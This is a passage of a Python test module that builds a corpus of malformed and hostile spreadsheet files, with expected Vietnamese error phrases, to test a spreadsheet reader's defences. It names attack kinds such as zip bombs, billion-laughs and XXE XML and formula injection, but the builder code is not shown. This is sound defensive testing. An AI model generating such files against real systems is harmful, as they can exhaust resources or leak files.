            "string_index_beyond": ("tham chiếu tới chuỗi chữ số 99999",)}


CORPUS: tuple[Item, ...] = (
    Item("empty", "kế hoạch rỗng.xlsx", _empty, words=("rỗng",)),
    Item("random_bytes", "random.xlsx", _random_bytes, words=("không phải sổ Excel",)),
    Item("csv_renamed", "danh-sach.xlsx", _csv, words=("CSV",)),
    Item("docx_renamed", "ke-hoach-word.xlsx", _docx, words=("Word",)),
    Item("xls_renamed", "ke-hoach-cu.xlsx", _xls_renamed, readable=True),
    Item("truncated", "cut.xlsx", _truncated, words=("cắt cụt",)),
    Item("corrupt_deflate", "hong.xlsx", _corrupt_deflate, words=("bị hỏng",)),
    Item("encrypted", "mat-khau.xlsx", _encrypted, words=("mật khẩu",)),
    Item("billion_laughs", "laughs.xlsx", _billion_laughs, words=("XML nguy hiểm",)),
    Item("xxe", "xxe.xlsx", _xxe, words=("XML nguy hiểm",)),
    Item("xxe_after_comment", "xxe-comment.xlsx", _xxe_after_comment, words=("XML nguy hiểm",)),
    Item("doctype_utf16", "utf16.xlsx", _doctype_utf16, words=("XML nguy hiểm",)),
    Item("zip_bomb", "bomb.xlsx", _zip_bomb, words=("bom nén",)),
    Item("zip_bomb_lying", "bomb-lying.xlsx", _zip_bomb_lying, words=("lớn hơn kích thước khai báo",)),
    Item("zip_bomb_lying_crc", "bomb-lying-crc.xlsx", _zip_bomb_lying_crc, words=("lớn hơn kích thước khai báo",)),
    Item("zip_encrypted_member", "zip-mat-khau.xlsx", _zip_encrypted_member, words=("mật khẩu",)),
    Item("many_parts", "parts.xlsx", _many_parts, words=("thành phần",)),
    Item("million_rows", "rows.xlsx", _million_rows, words=("XFD1048576",)),
    Item("million_rows_quoted", "rows-quoted.xlsx", _million_rows_quoted, words=("XFD1048576",)),
    Item("million_rows_unaddressed", "rows-noref.xlsx", _million_rows_unaddressed, words=("1048576",)),
    Item("million_rows_reordered", "rows-order.xlsx", _million_rows_reordered, words=("XFD1048576",)),
    Item("million_rows_hidden", "rows-hidden.xlsx", _million_rows_hidden, words=("XFD1048576",)),
    Item("merge_bomb", "merge-bomb.xlsx", _merge_bomb, words=("gộp ô",)),
    Item("ods_bomb", "ods-bomb.ods", _ods_bomb, words=("CL1048576",)),
    Item("xls_merge_bomb", "merge-bomb.xls", _xls_merge_bomb, words=("gộp ô",)),
    Item("nan_inf", "nan.xlsx", _nan_inf, readable=True),
    Item("sheet_missing", "thieu-trang.xlsx", _sheet_missing, words=("thiếu trang tính",)),
    Item("sheet_part_missing", "thieu-phan.xlsx", _sheet_part_missing, words=("bị hỏng", "thiếu")),
    Item("header_missing", "thieu-tieu-de.xlsx", _header_missing, words=("tiêu đề",)),
    Item("merged_data", "gop-o.xlsx", _merged_data, readable=True),
    Item("text_numbers", "chu-thay-so.xlsx", _text_numbers, readable=True),
    Item("formula_injection", "cong-thuc.xlsx", _formula_injection, readable=True),
    # declared sizes and counts that lie (issue 14, item 1)
    Item("strings_unique_count", "chuoi.xlsx", COUNT_BUILDERS["strings_unique_count"],
         words=("khai báo 999.999.999 chuỗi",)),
    Item("strings_unique_count_prefixed", "chuoi-x.xlsx", COUNT_BUILDERS["strings_unique_count_prefixed"],
         words=("khai báo 999.999.999 chuỗi",)),
    *(Item(name, f"{name.replace('_', '-')}.xlsx", COUNT_BUILDERS[name], readable=True)
      for name in ("strings_count", "dimension_lie", "row_spans_lie", "style_counts_lie", "style_index_lie",
                   "column_width_lie", "merge_count_lie", "shared_formula_index")),
    # damage inside the parts: XML that is not well-formed, cells Excel must repair, control characters (items 3, 4,
    # 8, 9)
    *(Item(name, f"{name.replace('_', '-')}.xlsx", XML_BUILDERS[name][0], readable=XML_BUILDERS[name][1] == "flag",
           words=_xml_words().get(name, ())) for name in XML_BUILDERS),
    # two parts of one name (item 5)
    *(Item(name, f"{name.replace('_', '-')}.xlsx", DUPLICATE_BUILDERS[name], words=("có hai bản trong tệp",))
      for name in DUPLICATE_BUILDERS),
    Item("ods_formula_bomb", "ods-formula-bomb.ods", _ods_formula_bomb, words=("CL1048576",)),
    *(Item(name, f"{name.replace('_', '-')}.xls", XLS_BUILDERS[name],
           words=("khai báo vùng dữ liệu",) if name.startswith("xls_dimensions") else
           ("CRXP65536",) if name.startswith("xls_far") else ("cấu trúc tệp Excel 97-2003",))
      for name in XLS_BUILDERS),
)
BY_NAME = {item.name: item for item in CORPUS}


def build(item: Item, folder: Path) -> Path:
    """Write one corpus file in its own sub-folder (some builders leave helper files next to it)."""
    home = folder / item.name
    home.mkdir(parents=True, exist_ok=True)
    path = home / item.filename
    item.build(path)
    return path


def build_corpus(folder: Path) -> dict[str, Path]:
    return {item.name: build(item, folder) for item in CORPUS}
